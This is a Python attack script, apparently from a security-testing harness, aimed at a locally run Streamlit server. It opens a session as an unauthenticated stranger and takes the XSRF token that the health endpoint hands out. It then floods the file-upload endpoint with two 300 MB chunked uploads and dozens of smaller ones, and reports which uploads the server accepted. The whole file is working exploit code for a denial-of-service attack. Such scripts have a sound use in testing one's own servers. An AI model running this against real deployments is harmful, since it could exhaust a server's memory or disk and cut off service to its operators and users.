"""Files of 300 MB that a stranger sends to Streamlit's upload address, in a page's session that a browser opened."""

import asyncio
import re
import time
from collections import Counter

from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
from websockets.asyncio.client import connect

from scripts.attacks.target import Target, chunks, counted, exchange, pour, run

SIZE, PIECE = 300_000_000, 1_000_000
FILES = 60
SMALL = 900_000


async def _session(port: int) -> tuple[str, object]:
    """A stranger's session: its id stands in the first message, as a browser gets it."""
    socket = await connect(
        f"ws://127.0.0.1:{port}/_stcore/stream",
        subprotocols=["streamlit"],
        origin=f"http://127.0.0.1:{port}",
        max_size=None,
    )
    hello = BackMsg()
    hello.rerun_script.query_string = ""
    await socket.send(hello.SerializeToString())
    while True:
        message = ForwardMsg()
        message.ParseFromString(await asyncio.wait_for(socket.recv(), 10))
        if message.WhichOneof("type") == "new_session":
            return message.new_session.initialize.session_id, socket


async def _token(port: int) -> str:
    """Streamlit's own guard, which it gives to anybody who asks."""
    _, said = await exchange(
        port, f"GET /_stcore/health HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n\r\n".encode()
    )
    found = re.search(rb"set-cookie: _streamlit_xsrf=([^;\r\n]+)", said, re.IGNORECASE)
    return found[1].decode() if found else ""


async def put(port: int, session: str, token: str, number: int, size: int) -> tuple[int, int]:
    """The status, and the bytes that were sent."""
    head = (
        f"PUT /_stcore/upload_file/{session}/{number:08}-0000-4000-8000-000000000000 HTTP/1.1\r\n"
        f"Host: 127.0.0.1:{port}\r\nCookie: _streamlit_xsrf={token}\r\nX-Xsrftoken: {token}\r\n"
        "Content-Type: multipart/form-data; boundary=x\r\nTransfer-Encoding: chunked\r\n\r\n"
    ).encode()
    pieces = [b"a" * min(PIECE, size)] * max(1, size // PIECE)
    form = (b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\n', *pieces, b"\r\n--x--\r\n")
    return await pour(port, head, chunks(form), 30)


async def attack(target: Target, seconds: float) -> str:
    (session, socket), token = await _session(target.port), await _token(target.port)
    large, small, until = Counter(), Counter(), time.monotonic() + seconds
    _, taken = 0, 0
    for number in range(2):
        status, sent = await put(target.port, session, token, number, SIZE)
        large[status], taken = large[status] + 1, max(taken, sent)
    for number in range(FILES):
        if time.monotonic() < until:
            small[(await put(target.port, session, token, 100 + number, SMALL))[0]] += 1
    await socket.close()
    return (
        f"of {SIZE / 1e6:.0f} MB: {counted(large)} ({taken / 1e6:,.0f} MB taken); files of {SMALL / 1e6:.1f} MB: "
        f"{counted(small)}"
    )


if __name__ == "__main__":
    run("uploads of strangers", __doc__, attack)
